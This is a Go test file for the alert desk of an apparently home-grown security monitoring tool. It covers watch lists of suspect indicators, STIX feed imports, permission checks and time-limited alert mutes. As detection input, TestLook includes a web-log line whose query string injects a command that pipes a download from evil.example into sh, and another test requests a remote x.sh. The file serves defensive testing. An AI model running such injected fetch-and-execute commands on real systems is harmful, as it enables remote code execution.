package desk

import (
	"fmt"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"tocsin/internal/auth"
	"tocsin/internal/detect"
	"tocsin/internal/entry"
	"tocsin/internal/intake"
	"tocsin/internal/plan"
	"tocsin/internal/record"
	"tocsin/internal/tuning"
)

// listRules are rules for what is watched, of one level each.
func listRules(t *testing.T) *detect.Rules {
	var all []string
	for n, level := range tuning.Levels() {
		all = append(all, fmt.Sprintf("title: Watched %[1]s\nid: 22222222-1111-4111-8111-%012[2]d\nlogsource: {category: watched}\ndetection: {x: {watch.level: %[1]s}, condition: x}\nlevel: %[1]s\ntocsin: {group: [source.ip], quiet: 30m}\n", level, n))
	}
	return testRules(t, strings.Join(all, "---\n")).Rules
}

func values(t *testing.T, texts ...string) (out []tuning.Listed) {
	t.Helper()
	for _, s := range texts {
		v, err := tuning.ParseValue(s)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, v)
	}
	return out
}

func titles(d *Desk) (out []string) {
	d.Read(func(s *State) {
		for _, id := range s.Incidents.Order {
			a := s.Incidents.Alerts[id]
			out = append(out, a.Title+" "+a.By)
		}
	})
	return out
}

// A list counts from the moment at which it is written, without a restart, and through restarts; nothing of it stands in the ledger in
// clear.
func TestWatchListsCountAtOnce(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHouse(t)
		h.o.Rules = listRules(t)
		d, stop := h.start()
		defer func() { stop() }()
		look := func(address, path string) {
			h.feed(d, request(time.Now(), address, path))
			time.Sleep(time.Minute)
			synctest.Wait()
		}
		look("203.0.113.9", "/")
		got, err := d.Watch(Local("test"), Listing{List: "suspects", Level: "high", About: "left us", Values: values(t, "203.0.113.9", "198.51.100.0/24", "bad.example", "account:anna keller")})
		if err != nil || got != (ListChange{List: 1, Added: 4}) {
			t.Fatalf("%+v, %v", got, err)
		}
		if got, err = d.Watch(Local("test"), Listing{List: "Suspects", Values: values(t, "203.0.113.9")}); err != nil || got != (ListChange{List: 1, Known: 1}) {
			t.Fatalf("%+v, %v", got, err)
		}
		if _, err := d.Watch(Local("test"), Listing{List: "feed", Level: "low", Values: values(t, "203.0.113.0/24", "192.0.2.1")}); err != nil {
			t.Fatal(err)
		}
		look("203.0.113.9", "/")
		look("203.0.113.10", "/")
		look("192.0.2.7", "/?u=http%3A%2F%2Fwww.Bad.example%2Fx.sh")
		want := []string{"Watched high opened", "Watched low low", "Watched high opened"}
		if diff := cmp.Diff(want, titles(d)); diff != "" {
			t.Error(diff)
		}
		if _, err := d.Unwatch(Local("test"), "1", values(t, "bad.example")); err != nil {
			t.Fatal(err)
		}
		if _, err := d.Unwatch(Local("test"), "feed", nil); err != nil {
			t.Fatal(err)
		}
		stop()
		d, stop = h.start()
		look("192.0.2.1", "/")
		look("192.0.2.8", "/?u=http://bad.example/")
		look("198.51.100.77", "/")
		if diff := cmp.Diff(append(want, "Watched high opened"), titles(d)); diff != "" {
			t.Error(diff)
		}
		lists := d.WatchLists()
		if len(lists) != 1 || lists[0].Name != "suspects" || len(lists[0].Values) != 3 || lists[0].Hits.Records != 3 {
			t.Errorf("%+v", lists)
		}
		es, err := d.LastEntries(1 << 30)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range es {
			for _, clear := range []string{"203.0.113", "198.51.100", "bad.example", "keller", "suspects", "left us"} {
				if strings.Contains(string(e.Body)+e.Subject, clear) {
					t.Errorf("entry %d (%s) says %q: %s", e.N, e.Kind, clear, e.Body)
				}
			}
		}
		h.want(d, entry.ListPut, 3)
		h.want(d, entry.ListAdded, 2)
		h.want(d, entry.ListRemoved, 1)
	})
}

// A value counts for records of its time only, by the records' clock.
func TestWatchedValuesEnd(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHouse(t)
		h.o.Rules = listRules(t)
		d, stop := h.start()
		defer stop()
		v := values(t, "203.0.113.9")
		v[0].From, v[0].Until = time.Now().Add(time.Hour), time.Now().Add(2*time.Hour)
		if _, err := d.Watch(Local("test"), Listing{List: "x", Values: v}); err != nil {
			t.Fatal(err)
		}
		for n := range 6 {
			h.feed(d, request(time.Now(), "203.0.113.9", "/"))
			synctest.Wait()
			want := int64(0)
			if n >= 2 {
				want = int64(min(n-1, 2))
			}
			if got := d.WatchLists()[0].Hits.Records; got != want {
				t.Errorf("after %d min: %d records, want %d", n*30, got, want)
			}
			time.Sleep(30 * time.Minute)
		}
	})
}

// An indicator that its source took back goes off the list that it was put on.
func TestARevokedIndicatorGoes(t *testing.T) {
	h := newHouse(t)
	d, stop := h.start()
	defer stop()
	bundle := func(more string) []byte {
		return []byte(`{"type":"bundle","objects":[{"type":"indicator","id":"indicator--1","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z","pattern":"[ipv4-addr:value = '203.0.113.9']"` + more +
			`},{"type":"indicator","id":"indicator--2","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z","pattern":"[ipv4-addr:value = '203.0.113.8'] OR [file:name = 'x']"}]}`)
	}
	got, err := d.ImportWatch(Local("test"), Listing{List: "feed", Of: "feed.json"}, bundle(""), time.Time{})
	if err != nil || got.Added != 2 || len(got.Refused) != 1 || got.Refused[0].Feature != "object file:name" {
		t.Fatalf("%+v, %v", got, err)
	}
	if got, err = d.ImportWatch(Local("test"), Listing{List: "feed", Of: "feed.json"}, bundle(`,"revoked":true`), time.Time{}); err != nil || got.Removed != 1 || got.Known != 1 {
		t.Fatalf("%+v, %v", got, err)
	}
	if got, err = d.ImportWatch(Local("test"), Listing{List: "feed"}, bundle(""), time.Time{}); err != nil || got.Added != 1 { // and comes back
		t.Fatalf("%+v, %v", got, err)
	}
	l := d.WatchLists()[0]
	if len(l.Values) != 2 || l.Refused != 2 || l.Values[1].Of != "" || l.Values[0].Of != "feed.json" {
		t.Errorf("%+v", l)
	}
}

// Who may not change lists does not, and a mistake writes nothing.
func TestListsRefuse(t *testing.T) {
	h := newHouse(t)
	d, stop := h.start()
	defer stop()
	before := h.entries(d)
	reader := auth.Actor{Name: "person:eve", ID: "eve", Roles: []string{plan.Reader}}
	one := values(t, "203.0.113.9")
	until := time.Now().Add(time.Hour)
	for name, err := range map[string]error{
		"watching":              second(d.Watch(reader, Listing{List: "x", Values: one})),
		"importing":             second(d.ImportWatch(reader, Listing{List: "x"}, []byte("203.0.113.9"), time.Time{})),
		"unwatching":            second(d.Unwatch(reader, "x", nil)),
		"muting":                second(d.AddNever(reader, Never{From: "203.0.113.9", Why: "x", Until: until})),
		"no name":               second(d.Watch(Local("test"), Listing{Values: one})),
		"a number":              second(d.Watch(Local("test"), Listing{List: "7", Values: one})),
		"a long name":           second(d.Watch(Local("test"), Listing{List: strings.Repeat("x", 81), Values: one})),
		"a level":               second(d.Watch(Local("test"), Listing{List: "x", Level: "critical", Values: one})),
		"nothing":               second(d.Watch(Local("test"), Listing{List: "x"})),
		"what is not there":     second(d.Unwatch(Local("test"), "x", one)),
		"a bad file":            second(d.ImportWatch(Local("test"), Listing{List: "x"}, []byte("{"), time.Time{})),
		"no reason":             second(d.AddNever(Local("test"), Never{From: "203.0.113.9", Until: until})),
		"no party":              second(d.AddNever(Local("test"), Never{Why: "x", Until: until})),
		"no end":                second(d.AddNever(Local("test"), Never{From: "203.0.113.9", Why: "x"})),
		"an end too far":        second(d.AddNever(Local("test"), Never{From: "203.0.113.9", Why: "x", Until: until.AddDate(1, 0, 1)})),
		"a rule that is not":    second(d.AddNever(Local("test"), Never{Rule: "nope", From: "203.0.113.9", Why: "x", Until: until})),
		"a network of everyone": second(d.AddNever(Local("test"), Never{From: "::/1", Why: "x", Until: until})),
	} {
		if err == nil {
			t.Errorf("%s was taken", name)
		}
	}
	if diff := cmp.Diff(before, h.entries(d)); diff != "" {
		t.Error(diff)
	}
}

func second[T any](_ T, err error) error { return err }

// Alerts of who never alerts are raised and counted, open nothing and ring nobody; those of anybody else ring.
func TestNeverAlerts(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHouse(t)
		d, stop := h.start()
		defer func() { stop() }()
		h.team(d)
		until := time.Now().Add(24 * time.Hour)
		for _, n := range []Never{{From: "203.0.113.77/24", Why: "our scanner"}, {Rule: oddRule, From: "2001:db8::7", Why: "a partner"}, {Account: "Backup", Why: "nightly"}} {
			n.Until = until
			if _, err := d.AddNever(Local("test"), n); err != nil {
				t.Fatal(err)
			}
		}
		for _, r := range []struct{ from, path string }{{"203.0.113.9", "/evil"}, {"203.0.113.9", "/odd"}, {"2001:db8::7", "/odd"}} {
			h.feed(d, request(time.Now(), r.from, r.path))
			time.Sleep(time.Second)
		}
		synctest.Wait()
		if diff := cmp.Diff([]string{"Request for evil muted", "Request for odd muted", "Request for odd muted"}, titles(d)); diff != "" || len(h.sent()) != 0 {
			t.Errorf("%s, and %d calls", diff, len(h.sent()))
		}
		kept := func() (n []int64) {
			d.Read(func(s *State) {
				for _, m := range s.Tuning.Mutes {
					n = append(n, m.Suppressed)
				}
			})
			return n
		}
		if got := kept(); !slices.Equal(got, []int64{2, 1, 0}) {
			t.Errorf("kept quiet %v", got)
		}
		stop()
		d, stop = h.start()
		if got := kept(); !slices.Equal(got, []int64{2, 1, 0}) {
			t.Errorf("after a restart: kept quiet %v", got)
		}
		h.feed(d, request(time.Now(), "203.0.112.9", "/evil"), request(time.Now(), "2001:db8::7", "/evil"))
		synctest.Wait()
		h.want(d, entry.IncidentOpened, 2)
		time.Sleep(25 * time.Hour)
		h.feed(d, request(time.Now(), "203.0.113.5", "/evil"))
		synctest.Wait()
		h.want(d, entry.IncidentOpened, 3)
		calls := 0
		d.Read(func(s *State) { calls = len(s.Calls.Calls) })
		if calls == 0 || len(h.sent()) == 0 {
			t.Error("nobody was rung for those who do alert")
		}
	})
}

// An account is known in every realm and spelling.
func TestAnAccountNeverAlerts(t *testing.T) {
	h := newHouse(t)
	d, stop := h.start()
	defer stop()
	if _, err := d.AddNever(Local("test"), Never{Account: "Backup", Why: "nightly", Until: time.Now().Add(time.Hour)}); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]int64{"backup": 1, "BACKUP": 1, "backup2": 0, "": 0} {
		a := detect.Alert{Sources: []detect.Party{{Name: "203.0.113.9"}}}
		if name != "" {
			a.Accounts = []detect.Party{{Name: name, Realm: "ftp"}}
		}
		d.Read(func(s *State) {
			if got := s.Tuning.Silences(time.Now(), evilRule, d.parties(s, time.Now(), a)); got != want {
				t.Errorf("%q: mute %d, want %d", name, got, want)
			}
		})
	}
}

// Whom an alert does not name any more, because there are too many, no mute covers.
func TestManyNeverAlert(t *testing.T) {
	h := newHouse(t)
	d, stop := h.start()
	defer stop()
	if _, err := d.AddNever(Local("test"), Never{From: "203.0.0.0/16", Why: "a partner", Until: time.Now().Add(time.Hour)}); err != nil {
		t.Fatal(err)
	}
	var sources, accounts []detect.Party
	for n := range detect.MaxParties {
		sources = append(sources, detect.Party{Name: fmt.Sprintf("203.0.%d.%d", n/250, n%250)})
		accounts = append(accounts, detect.Party{Name: fmt.Sprint("a", n)})
	}
	for _, x := range []struct {
		name string
		a    detect.Alert
		want int64
	}{
		{"all of them are named", detect.Alert{Sources: sources}, 1},
		{"more addresses than are named", detect.Alert{Sources: sources, Dropped: 1}, 0},
		{"more accounts than are named, of one address", detect.Alert{Sources: sources[:1], Accounts: accounts, Dropped: 1}, 1},
	} {
		d.Read(func(s *State) {
			if got := s.Tuning.Silences(time.Now(), evilRule, d.parties(s, time.Now(), x.a)); got != x.want {
				t.Errorf("%s: mute %d, want %d", x.name, got, x.want)
			}
		})
	}
}

// A folder on which no server works takes the same commands, and its ledger gets nothing else.
func TestListsOffline(t *testing.T) {
	h := newHouse(t)
	d, stop := h.start()
	until(t, "it has begun", h.has(d, entry.RulesLoaded, 1))
	before := h.entries(d)
	stop()
	o := h.o
	o.Data, o.Keys = h.data, h.keys
	off, err := OpenOffline(slog.New(slog.DiscardHandler), o)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := off.Watch(Local("command"), Listing{List: "x", Values: values(t, "203.0.113.9")}); err != nil {
		t.Error(err)
	}
	if _, err := off.AddNever(Local("command"), Never{Rule: evilRule, From: "203.0.113.9", Why: "x", Until: time.Now().Add(time.Hour)}); err != nil {
		t.Error(err)
	}
	if l := off.WatchLists(); len(l) != 1 || len(l[0].Values) != 1 {
		t.Errorf("%+v", l)
	}
	after := h.entries(off)
	if err := off.Close(); err != nil {
		t.Error(err)
	}
	before[entry.ListPut], before[entry.ListAdded], before[entry.MuteAdded] = 1, 1, 1
	if diff := cmp.Diff(before, after); diff != "" {
		t.Error(diff)
	}
	d, stop = h.start()
	defer stop()
	if l := d.WatchLists(); len(l) != 1 || l[0].Name != "x" {
		t.Errorf("%+v", l)
	}
}

// What is looked up in a record.
func TestLook(t *testing.T) {
	set := tuning.NewSet([]tuning.Lister{{List: 1, Level: "high", Values: values(t, "203.0.113.9", "account:eve", "evil.example", "https://evil.example/x", "d41d8cd98f00b204e9800998ecf8427e")}})
	p, err := intake.New(intake.Options{})
	if err != nil {
		t.Fatal(err)
	}
	web := func(address, path, referrer string) string {
		return fmt.Sprintf(`%s - - [10/Nov/2026:10:00:01 +0000] "GET %s HTTP/1.1" 200 5 "%s" "Mozilla/5.0"`, address, path, referrer)
	}
	for line, want := range map[string]tuning.Kind{
		web("203.0.113.9", "/", "-"):                                                                               tuning.Address,
		web("203.0.113.10", "/", "-"):                                                                              "",
		web("192.0.2.1", "/", "https://www.evil.example/a"):                                                        tuning.Domain,
		web("192.0.2.1", "/", "https://evil.example.shop.example/a"):                                               "",
		web("192.0.2.1", "/?x=%3Bcurl%20https://evil.example/x%7Csh", "-"):                                         tuning.URL,
		web("192.0.2.1", "/?x=http://user:pw@evil.example:8080/y", "-"):                                            tuning.Domain,
		web("192.0.2.1", "/?x=http://a.example/%20ftp://evil.example", "-"):                                        tuning.Domain,
		web("192.0.2.1", "/?x=evil.example", "-"):                                                                  "",
		`Nov 10 10:00:01 s sshd[1]: Failed password for Eve from 192.0.2.1 port 5 ssh2`:                            tuning.Account,
		`{"ts":"2026-11-10T10:00:01Z","event":"upload","ip":"192.0.2.1","sha":"D41D8CD98F00B204E9800998ECF8427E"}`: tuning.Hash,
	} {
		format, _ := intake.Known([]string{line})
		rec := p.Parse(record.Line{File: format, Raw: line}, sampleHint)
		hit, ok := look(set, rec, sampleHint)
		if hit.Kind != want || ok != (want != "") {
			t.Errorf("%s (%s): %q, want %q", line, rec.Format, hit.Kind, want)
		}
	}
}
